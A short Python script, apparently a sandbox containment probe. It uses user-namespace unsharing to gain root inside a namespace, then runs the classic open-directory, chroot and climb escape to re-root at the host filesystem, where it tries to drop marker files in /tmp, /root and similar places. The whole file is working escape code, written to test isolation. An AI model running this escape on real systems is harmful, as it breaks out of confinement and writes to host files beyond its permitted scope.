"""Idea: the classic way out of a changed root: keep a folder open, change the root, climb.
Must: end where it began; nothing of the host's files is seen or written.
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    user, group = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        for name, text in (
            ("setgroups", "deny"),
            ("uid_map", f"0 {user} 1"),
            ("gid_map", f"0 {group} 1"),
        ):
            try:
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(text)
            except OSError:
                pass
    for base in (os.path.expanduser("~"), "/tmp", "/dev/shm"):
        try:
            above = os.open("/", os.O_RDONLY)
            os.makedirs(f"{base}/{MARK}-root", exist_ok=True)
            os.chroot(f"{base}/{MARK}-root")
            os.fchdir(above)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            for place in ("tmp", "var/tmp", "root", "work", "dev/shm"):
                try:
                    with open(f"{place}/{MARK}", "x") as file:
                        file.write(MARK)
                except OSError:
                    pass
        except OSError:
            pass
    os._exit(0)
os.wait()
